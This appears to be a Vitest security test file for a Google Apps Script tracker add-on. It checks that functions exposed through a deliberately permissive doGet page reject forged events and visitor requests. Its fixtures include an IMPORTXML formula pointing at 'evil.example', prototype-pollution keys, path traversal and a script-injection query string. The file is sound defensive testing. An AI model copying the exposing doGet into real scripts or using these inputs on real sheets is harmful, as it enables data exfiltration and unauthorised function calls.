import { afterAll, beforeAll, expect, test } from 'vitest';
import { PageRequest } from '../../shared/protocol';
import { addonCode, startHost, startTracker, type Tracker } from '../apps-script/tracker';
import { wholeState } from './whole-state';

/**
 * At Google any page that `doGet` served would let its visitor call every function of the script as the owner. This
 * one does: it is the add-on with such a page, over a tracker in use.
 */
const withPage = (code: string): string => `${code}
function doGet(e) {
  var script = this;
  return ContentService.createTextOutput(JSON.stringify(JSON.parse(e.parameter.calls).map(function (call) {
    try {
      var returned = script[call[0]].apply(script, call.slice(1));
      return { returned: returned && returned.getContent ? returned.getContent() : returned };
    } catch (thrown) {
      return { thrown: thrown.message };
    }
  })));
}`;

let tracker: Tracker;
let names: string[];
beforeAll(async () => {
  const code = await addonCode();
  names = [...code.matchAll(/^function (\w+)\(/gm)].map((match) => match[1] as string);
  tracker = await startTracker({ bundle: { code: withPage(code) } });
  await tracker.log([tracker.article()]);
}, 120_000);
afterAll(() => tracker.host.close());

type Came = { readonly returned?: unknown; readonly thrown?: string };
const visit = async (...calls: readonly (readonly unknown[])[]): Promise<Came[]> => {
  const event = { parameter: { calls: JSON.stringify(calls) } };
  const result = await tracker.host.execution.run({ from: 'web-app', method: 'GET', event });
  if (result.kind !== 'text') throw new Error(JSON.stringify(result));
  return JSON.parse(result.body) as Came[];
};

const event = (more: object = {}) => ({
  authMode: 'FULL',
  triggerUid: '1',
  range: { columnStart: 1, rowStart: 2, columnEnd: 1, rowEnd: 2, getSheet: 'x' },
  source: { getId: 'x' },
  user: { email: 'chu.so@so-ghim.invalid', nickname: 'x', getEmail: 'x' },
  value: '=IMPORTXML("https://evil.example","//x")',
  oldValue: 'x',
  changeType: 'REMOVE_ROW',
  ...more,
});
const forged: readonly (readonly unknown[])[] = [
  [],
  [null],
  [0],
  ['x'],
  [[]],
  [{}],
  [event()],
  [event({ source: null, range: null, user: null })],
  [event({ source: [], range: [], user: [] })],
  [event({ changeType: '__proto__' })],
  [{ postData: null }],
  [{ postData: [] }],
  [{ postData: { contents: null } }],
  [{ postData: { contents: 1e308 } }],
  [{ postData: { contents: [] } }],
  [
    {
      postData: {
        contents: [
          '{"v":1,"client":{"name":"x","version":"0.1.0"},"token":"x","request":{"op":"sync","known":null}}',
        ],
      },
    },
  ],
  [{ postData: { contents: { length: 0 } } }],
  [{ __proto__: { postData: { contents: '{}' } } }],
  [{ constructor: { prototype: {} }, parameter: { page: 'sidebar' }, pathInfo: '../sidebar' }],
];

test('every function, with nothing and with forged events: nothing is thrown, nothing changes', async () => {
  expect(names.length).toBeGreaterThan(8);
  const before = await wholeState(tracker.host);
  const shown = tracker.host.shown.length;
  for (const name of names.filter((one) => one !== 'doGet')) {
    const came = await visit(...forged.map((args) => [name, ...args]));
    for (const [at, { thrown, returned }] of came.entries()) {
      expect(thrown, `${name}(${JSON.stringify(forged[at])})`).toBeUndefined();
      if (typeof returned === 'string' && returned.startsWith('{'))
        expect(JSON.parse(returned)).toMatchObject({ ok: false });
      else expect(returned ?? null).toBeNull();
    }
  }
  expect(await wholeState(tracker.host)).toBe(before);
  expect(tracker.host.shown.length).toBe(shown);
}, 120_000);

const operations = PageRequest._zod.def.options.map(
  (option) => (option._zod.def.shape.op._zod.def as { values: readonly string[] }).values[0] as string,
);

test.each(operations)('the pages’ operation %s is refused to a visitor', async (op) => {
  const before = await wholeState(tracker.host);
  const request = {
    op,
    fix: [],
    units: [],
    holidays: [],
    text: 'x',
    themes: [],
    gate: null,
    activate: true,
    campaign: tracker.campaign,
    deadline: '2025-12-31',
    unit: 'x',
    address: 'https://script.google.com/macros/s/evil/exec',
    person: 'Kẻ lạ',
    id: 'x',
  };
  const [came] = await visit(['call', JSON.stringify(request)]);
  expect(JSON.parse(String(came?.returned))).toMatchObject({
    ok: false,
    problem: { kind: 'wrong-role', role: 'visitor' },
  });
  const answer = (await tracker.host.post({
    v: 1,
    client: { name: 'x', version: '0.1.0' },
    token: tracker.token,
    request,
  })) as object;
  expect(answer).toMatchObject({ ok: false, problem: { kind: 'bad-data', field: 'request.op' } });
  expect(await wholeState(tracker.host)).toBe(before);
});

test('what stands at the web app’s own address is a line of text, whatever is asked of it', async () => {
  const host = await startHost();
  for (const parameter of [{}, { page: 'sidebar' }, { op: 'status' }, { callback: 'alert' }]) {
    const answer = await host.execution.run({
      from: 'web-app',
      method: 'GET',
      event: { parameter, pathInfo: '../sidebar', queryString: 'page=<script>' },
    });
    expect(answer).toMatchObject({ kind: 'text', mimeType: 'text/plain' });
    expect(answer.kind === 'text' && answer.body).not.toMatch(/[<>{]/);
  }
  await host.close();
});
